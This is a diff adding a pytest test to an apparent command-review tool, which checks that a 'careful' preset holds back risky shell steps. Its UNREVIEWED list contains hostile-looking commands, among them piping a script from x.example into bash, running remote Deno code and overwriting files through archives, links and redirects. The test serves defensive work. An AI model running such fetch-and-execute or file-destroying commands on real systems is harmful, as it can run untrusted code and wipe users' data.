@@ -246,6 +246,83 @@ def test_one_word_in_the_plan_asks_for_all_of_it(tmp_path: Path) -> None:
     assert "clean (plan:careful.destroys)" in _run(tmp_path, "show", "plan.yml").stdout
 
 
+# Each may destroy what the workspace holds, in a way that no name of a program shows.
+UNREVIEWED = (
+    "cat ev.sh | bash -",
+    "cat ev.sh | bash",
+    "curl -s https://x.example/ev.sh | bash -",
+    "curl -s https://x.example/ev.sh | bash -s -- x",
+    "python3 - <<X\nopen('README.md', 'w')\nX",
+    "python3 <<< 'import os'",
+    "python3 /tmp/x.py",
+    "bash /dev/stdin < ev.sh",
+    "bash /dev/fd/0 < ev.sh",
+    "bash < ev.sh",
+    "bash <(cat ev.sh)",
+    ". <(cat ev.sh)",
+    "source /dev/stdin < ev.sh",
+    "env -i bash -s < ev.sh",
+    "../elsewhere/run.sh",
+    "cp ev.sh x.sh && bash x.sh",
+    "make -f - < ev.sh",
+    "make -f /tmp/Makefile",
+    "node - < ev.js",
+    "node < ev.js",
+    "perl - < ev.pl",
+    "perl < ev.pl",
+    "perl -e unlink",
+    "ruby -e 1",
+    "ruby - < ev.rb",
+    "php < ev.php",
+    "lua - < ev.lua",
+    "deno run https://x.example/ev.ts",
+    "npx some-package",
+    "ssh host < ev.sh",
+    "psql -f ev.sql",
+    "sqlite3 a.db < ev.sql",
+    "PATH=. ls",
+    "ln -sf nothing README.md",
+    "tar -xf a.tar",
+    "tar xf a.tar README.md",
+    "unzip -o a.zip",
+    "gunzip -f README.md.gz",
+    "awk 'BEGIN{print > \"README.md\"}'",
+    "sed -n 'w README.md' ev.sh",
+    "cp ev.sh README.md",
+    "cp -r docs/. .",
+    "split ev.sh README.md",
+    "sort -o README.md ev.sh",
+    "lz4 -f ev.sh README.md",
+)
+REVIEWED = (
+    "bash ev.sh",
+    "python3 tools/x.py",
+    "ln -s README.md new-link",
+    "tar -xf a.tar -C new",
+    "tar -xkf a.tar",
+    "unzip -n a.zip",
+    "cp README.md new",
+    "awk '{print $1}' README.md",
+    "make",
+)
+
+
+@pytest.mark.shows("V-42")
+def test_code_from_anywhere_else_and_what_replaces_files_is_asked_about(tmp_path: Path) -> None:
+    """Code from standard input, of a text or from outside is not the project's; archives and links replace files."""
+    for name in ("README.md", "ev.sh", "a.tar", "a.zip", "README.md.gz", "docs/a"):
+        (tmp_path / name).parent.mkdir(exist_ok=True)
+        (tmp_path / name).write_text("precious\n")
+    steps: list[dict[str, Any]] = [
+        {"id": f"u{number}", "run": text} for number, text in enumerate(UNREVIEWED)
+    ]
+    asked = _waiting(tmp_path, "{preset: careful}", steps)
+    assert [text for number, text in enumerate(UNREVIEWED) if f"u{number}" not in asked] == []
+    assert set(asked.values()) <= {"plan:careful.unknown", "plan:careful.destroys"}
+    steps = [{"id": f"r{number}", "run": f"{text} || true"} for number, text in enumerate(REVIEWED)]
+    assert _waiting(tmp_path, "{preset: careful}", steps) == {}
+
+
 @pytest.mark.shows("V-42", "V-43", "V-44")
 def test_the_preset_of_a_policy_file_holds_for_every_plan(tmp_path: Path) -> None:
     """A plan's own rules add to it, and cannot take it away; cleanup and undoing are judged, too."""
